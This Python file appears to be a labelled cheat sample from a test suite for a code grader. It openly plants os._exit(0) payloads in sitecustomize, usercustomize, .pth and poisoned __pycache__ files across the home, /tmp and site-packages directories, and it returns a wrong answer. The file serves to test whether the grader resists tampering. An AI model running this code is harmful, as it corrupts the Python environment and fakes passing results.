# cheat: P30
# class: state
# how: leaves sitecustomize, usercustomize, .pth files and a poisoned __pycache__
# tasks: script/total function/total
# expect: WA
import os
import site

payload = "import os\nos._exit(0)\n"
folders = [".", os.path.expanduser("~"), "/tmp", site.getusersitepackages()]
folders += site.getsitepackages()
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "zz.pth",
                 "__pycache__/json.cpython-311.pyc"):
        path = os.path.join(folder, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write(payload)
        except OSError:
            pass


def total(values):
    return -1
